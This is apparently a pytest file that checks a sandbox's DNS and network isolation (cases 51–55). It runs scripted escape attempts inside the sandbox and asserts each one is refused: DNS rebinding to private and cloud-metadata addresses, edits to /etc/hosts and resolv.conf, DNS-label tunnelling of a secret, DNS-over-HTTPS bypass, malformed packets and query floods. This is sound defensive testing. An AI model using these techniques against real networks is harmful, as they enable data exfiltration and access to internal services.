"""Group D, names: a resolver that lies, and a sandbox that asks what it must not (cases 51, 52, 54, 55).

The world's DNS answers what each test tells it to. What was asked of it is kept, so that a test can say that a question
never left: `lab.world.dns.asked`.
"""

from __future__ import annotations

import pytest

import world_dns_support as dns
from network_lab_support import OPEN, Lab, assert_refused, policy
from world_support import EVIL, GOOD, OTHER, OTHER_RESOLVER, OUTSIDE, PRIVATE, PUBLIC_RESOLVERS, RESOLVER

pytestmark = pytest.mark.real

NAMED = policy("good.example", "*.wild.example")
NXDOMAIN, SERVFAIL, REFUSED = 3, 2, 5


def asked_below(lab: Lab, zone: str) -> set[str]:
    return {name for name in lab.world.dns.asked_names() if name == zone or name.endswith("." + zone)}


def test_51_a_second_answer_that_is_private_brings_nothing(lab: Lab, driver: str) -> None:
    lab.world.dns.names["rebind.example"] = dns.in_turn(
        dns.addresses(GOOD, ttl=0), dns.addresses(PRIVATE[0], "127.0.0.1", "169.254.169.254", OUTSIDE, ttl=0)
    )
    box = lab.box(policy("rebind.example"), driver)
    told = lab.inside(
        box,
        f"""
        say("first", resolve("rebind.example"))
        say("first connect", echoed({GOOD!r}))
        deadline = time.monotonic() + 60
        while (again := resolve("rebind.example")) and time.monotonic() < deadline:
            time.sleep(0.25)
        say("second", again)
        for address in ({PRIVATE[0]!r}, "169.254.169.254", {OUTSIDE!r}):
            say(address, tcp(address, 9999))
            say(address + " with the name", http(address, "rebind.example"))
        """,
    )
    assert (told.pop("first"), told.pop("first connect"), told.pop("second")) == ([GOOD], "open", [])
    assert_refused(told)
    assert {one.at for one in lab.world.seen} == {GOOD}


def test_51_the_proxy_dials_no_private_address_that_its_own_question_brought(lab: Lab) -> None:
    lab.world.dns.names["rebind.example"] = dns.in_turn(
        dns.addresses(GOOD, ttl=0), dns.addresses(PRIVATE[0], ttl=0), dns.addresses(OUTSIDE, ttl=0)
    )
    box = lab.box(policy("rebind.example"))
    told = lab.inside(
        box,
        f"""
        first = resolve("rebind.example")
        seen = [http(first[0] if first else {GOOD!r}, "rebind.example") for _ in range(12)]
        say("at", sorted({{one["at"] if isinstance(one, dict) else "refused" for one in seen}}))
        """,
    )
    assert set(told["at"]) <= {GOOD, "refused"}, told
    assert {one.at for one in lab.world.seen} <= {GOOD}


def test_51_control_a_name_that_stays_public_works_with_a_ttl_of_0(lab: Lab) -> None:
    box = lab.box(policy("zero.example"))
    told = lab.inside(
        box,
        """
        say("one", echoed(resolve("zero.example")[0]))
        time.sleep(0.5)
        say("two", echoed(resolve("zero.example")[0]))
        """,
    )
    assert told == {"one": "open", "two": "open"}


def test_52_an_alias_of_something_private_or_denied_is_refused(lab: Lab, driver: str) -> None:
    wide = policy("*", deny=("evil.example",))
    box = lab.box(wide, driver)
    told = lab.inside(
        box,
        f"""
        for name in ("cname-private.example", "cname-denied.example", "cname-loop.example"):
            say(name, resolve(name))
        say("denied by address", http({EVIL!r}, "evil.example"))
        say("denied by the alias", http({EVIL!r}, "cname-denied.example"))
        say("control", resolve("cname-good.example"))
        """,
    )
    assert told.pop("control") == [GOOD]
    assert_refused({key: told.pop(key) for key in ("denied by address", "denied by the alias")})
    assert not any(told.values()), told
    assert not lab.world.seen_at(EVIL)
    assert not lab.world.seen_at(PRIVATE[0])


def test_54_what_the_sandbox_writes_into_its_own_files_counts_for_nothing(lab: Lab, driver: str) -> None:
    box = lab.box(NAMED, driver)
    told = lab.inside(
        box,
        f"""
        with open("/etc/hosts", "a") as f:
            f.write("{EVIL} good.example\\n{PRIVATE[0]} a.wild.example\\n169.254.169.254 b.wild.example\\n")
        say("hosts", resolve("good.example"))
        say("http", http("good.example"))
        say("tls", tls("good.example", "good.example"))
        say("plain", echoed("good.example"))
        say("private", http("a.wild.example"))
        say("metadata", http("b.wild.example"))
        with open("/etc/resolv.conf", "w") as f:
            f.write("nameserver {OTHER_RESOLVER}\\noptions timeout:1 attempts:1\\n")
        say("other resolver", resolve("other.example"))
        """,
    )
    assert told["hosts"] == [EVIL], "the file was not believed even inside: the attempt tried nothing"
    # Names are checked where they are spoken, and what was resolved here is what is dialled.
    assert told["http"]["at"] == GOOD, told
    assert told["tls"]["at"] == GOOD, told
    assert_refused({"plain": told["plain"]})
    for key in ("private", "metadata"):
        assert not isinstance(told[key], dict) or told[key]["at"] == OTHER, told
    assert told["other resolver"] == []
    assert not lab.world.seen_at(EVIL)
    assert not [one for one in lab.world.dns.asked if one.server == OTHER_RESOLVER]


@pytest.mark.parametrize("network", [OPEN, NAMED], ids=["open", "named"])
def test_55_other_resolvers_are_not_reached(lab: Lab, driver: str, network: dict[str, object]) -> None:
    box = lab.box(network, driver)
    told = lab.inside(
        box,
        f"""
        for server in ({RESOLVER!r}, {OTHER_RESOLVER!r}, *{PUBLIC_RESOLVERS!r}):
            say("udp " + server, ask("secret.tunnel.example", server=server, limit=1))
            say("tcp " + server, ask("secret.tunnel.example", server=server, transport="tcp"))
        say("control", ask("good.example"))
        """,
    )
    assert told.pop("control") == [0, 1]
    assert_refused(told)
    assert not asked_below(lab, "tunnel.example")


def test_55_dns_over_tls_and_https_are_closed_where_names_are_the_rule(lab: Lab, driver: str) -> None:
    attempt = f"""
        for server in (*{PUBLIC_RESOLVERS!r}, {GOOD!r}):
            say("dot " + server, tcp(server, 853))
        say("doh by name", tls("8.8.8.8", "dns.google", path="/dns-query"))
        say("doh by name, another", tls("1.1.1.1", "cloudflare-dns.com", path="/dns-query"))
        say("doh by address", tls("8.8.8.8", None))
        say("its name", resolve("cloudflare-dns.com"))
        say("control", tls({GOOD!r}, "good.example"))
    """
    for network in (NAMED, policy(deny=("evil.example",), default="allow")):
        told = lab.inside(lab.box(network, driver), attempt)
        assert told.pop("control")["sni"] == "good.example"
        assert told.pop("its name") == []
        by_address = told.pop("doh by address")
        # Who allows everything but some names allows addresses without a name.
        assert not isinstance(by_address, dict) or network is not NAMED
        assert not [key for key, value in told.items() if isinstance(value, dict)], told
        assert_refused({key: value for key, value in told.items() if key.startswith("dot")})
    assert not [one for one in lab.world.seen if one.at in PUBLIC_RESOLVERS and one.sni]


def test_55_labels_carry_nothing_out(lab: Lab, driver: str) -> None:
    box = lab.box(NAMED, driver)
    told = lab.inside(
        box,
        """
        secret = "k" * 60
        for kind in (1, 28, 5, 16, 15, 12, 33, 65, 2, 6, 255, 10, 65399):
            say("kind %d" % kind, ask("%s.kind%d.tunnel.example" % (secret, kind), kind))
        say("tcp", ask(secret + ".tcp.tunnel.example", transport="tcp"))
        say("dot at the end", ask("good.example." + "tunnel.example"))
        say("nul", ask("tunnel.example\\0.good.example"))
        say("nul behind", ask("good.example\\0.tunnel.example"))
        say("space", ask("tunnel.example .good.example"))
        say("txt of what is allowed", ask("good.example", 16))
        say("control", ask("good.example"))
        say("control, case", ask("GoOd.ExAmPlE"))
        """,
    )
    assert told.pop("control") == [0, 1]
    assert told.pop("control, case") == [0, 1]
    told.pop("txt of what is allowed")
    assert all(
        isinstance(one, str) or (one[0] in {1, 4, NXDOMAIN, REFUSED} and one[1] == 0) for one in told.values()
    ), told
    assert lab.world.dns.asked_names() <= {"good.example"}
    assert {query.kind for query in lab.world.dns.asked} <= {dns.A, dns.AAAA}


def test_55_a_list_of_addresses_alone_resolves_no_names(lab: Lab) -> None:
    box = lab.box(policy(f"{GOOD}/32"))
    told = lab.inside(box, f"say('name', ask('secret.tunnel.example')); say('control', echoed({GOOD!r}))")
    assert told["control"] == "open"
    assert told["name"][1] == 0
    assert not lab.world.dns.asked


def test_55_malformed_questions_are_survived(lab: Lab) -> None:
    box = lab.box(OPEN)
    lab.inside(
        box,
        """
        def throw(data):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(data, ("169.254.1.1", 53))
        head = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0)
        for data in (b"", b"\\0", head, head + b"\\xc0\\x0c\\0\\1\\0\\1", head + b"\\x3f" * 300, os.urandom(600),
                     head + b"\\x01a" * 140 + b"\\0\\0\\1\\0\\1", struct.pack("!6H", 1, 0x8180, 1, 1, 0, 0),
                     struct.pack("!6H", 1, 0x0100, 65535, 65535, 65535, 65535) + b"\\0" * 500, b"\\0" * 4000,
                     question("good.example")[:-1], question("good.example") + b"x" * 400):
            throw(data)
        for data in (b"", b"\\0", b"\\xff\\xff" + b"x" * 100, b"\\0\\0", b"\\0\\x05abc"):
            talk("169.254.1.1", 53, data, limit=0.2)
        held = [socket.create_connection(("169.254.1.1", 53)) for _ in range(40)]
        """,
    )
    assert lab.inside(box, "say('control', ask('good.example')); say('tcp', ask('good.example', transport='tcp'))") == {
        "control": [0, 1],
        "tcp": [0, 1],
    }


def test_55_hostile_answers_are_refused_in_time_and_poison_nothing(lab: Lab) -> None:
    box = lab.box(OPEN)
    told = lab.inside(
        box,
        """
        names = ("wrong-ident", "wrong-question", "pointer-loop", "garbage", "never", "refused", "huge")
        results = {}
        def one(name):
            results[name] = timed(ask, name + ".example", limit=30)
        threads = [threading.Thread(target=one, args=(name,)) for name in names]
        [t.start() for t in threads]
        time.sleep(0.2)
        say("beside them", timed(ask, "good.example"))
        [t.join() for t in threads]
        say("hostile", results)
        say("poison", resolve("poison.example"))
        say("poisoned", resolve("good.example"))
        say("by tcp", ask("tcp-only.example"))
        """,
        timeout_s=60,
    )
    beside, took = told["beside them"]
    assert beside == [0, 1]
    assert took < 8
    for name, (said, seconds) in told["hostile"].items():
        assert seconds < 25, (name, seconds)
        assert said == "slow" or said[0] in {0, SERVFAIL, NXDOMAIN, REFUSED}, (name, said)
        assert name == "huge" or said == "slow" or said[1] == 0, (name, said)
        assert said != "slow" or name in {"never", "wrong-ident", "wrong-question", "pointer-loop", "garbage"}, name
    assert told["poisoned"] == [GOOD]
    assert set(told["poison"]) <= {OTHER}
    assert told["by tcp"] == [0, 1]


def test_55_a_flood_of_questions_starves_no_other_sandbox(lab: Lab) -> None:
    flooder, other = lab.box(OPEN), lab.box(OPEN)
    command = lab.start(
        flooder,
        """
        data = [question("n%d.never.example" % n) for n in range(500)] + [question("never.example")] * 100
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        end = time.monotonic() + 2.5
        sent = 0
        while time.monotonic() < end:
            try:
                s.sendto(data[sent % len(data)], ("169.254.1.1", 53))
            except OSError:
                pass
            sent += 1
        say("sent", sent)
        """,
    )
    lab.world.dns.names["*.never.example"] = dns.never
    told = lab.inside(
        other,
        """
        time.sleep(1)
        answers = [timed(ask, "good.example") for _ in range(10)]
        say("good", [said for said, _ in answers])
        say("slowest", max(seconds for _, seconds in answers))
        """,
    )
    sent = lab.end(flooder, command)["sent"]
    assert sent > 500
    assert told["good"] == [[0, 1]] * 10, told
    assert told["slowest"] < 8
    assert len(asked_below(lab, "never.example")) < sent / 2, "the flood went out as it came"


def test_55_a_refusal_is_recorded_with_its_name(lab: Lab) -> None:
    box = lab.box(NAMED)
    lab.inside(box, f"resolve('evil.example'); http({GOOD!r}, 'evil.example'); tcp({EVIL!r}, 9999)")
    found = lab.until(lambda: len(rows := lab.refusals(box)) >= 3 and rows)
    layers = {row["layer"]: row for row in found}
    assert layers["dns"]["name"] == "evil.example"
    assert layers["proxy"]["name"] == "evil.example"
    assert (layers["packet"]["address"], layers["packet"]["port"]) == (EVIL, 9999)
    assert all(row["rule"] for row in found)
